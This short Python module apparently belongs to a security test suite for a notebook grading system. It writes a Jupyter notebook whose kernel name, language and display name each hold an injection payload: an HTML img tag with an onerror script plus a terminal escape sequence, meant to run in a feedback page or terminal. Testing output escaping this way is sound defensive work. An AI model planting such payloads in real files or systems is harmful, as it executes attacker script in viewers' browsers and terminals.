"""Sets the notebook to a language whose name is a tag and a terminal escape.

Succeeds if it acts in a feedback page or in the terminal.
"""

import json


def hand_in(folder, notebook, known):
    tag = f"<img src=x onerror=alert('{known['MARK']}')>\x1b]0;owned\x07"
    notebook["metadata"]["kernelspec"] = {"name": tag, "language": tag, "display_name": tag}
    path = folder / f"{known['TOPIC']}.ipynb"
    path.write_text(json.dumps(notebook))
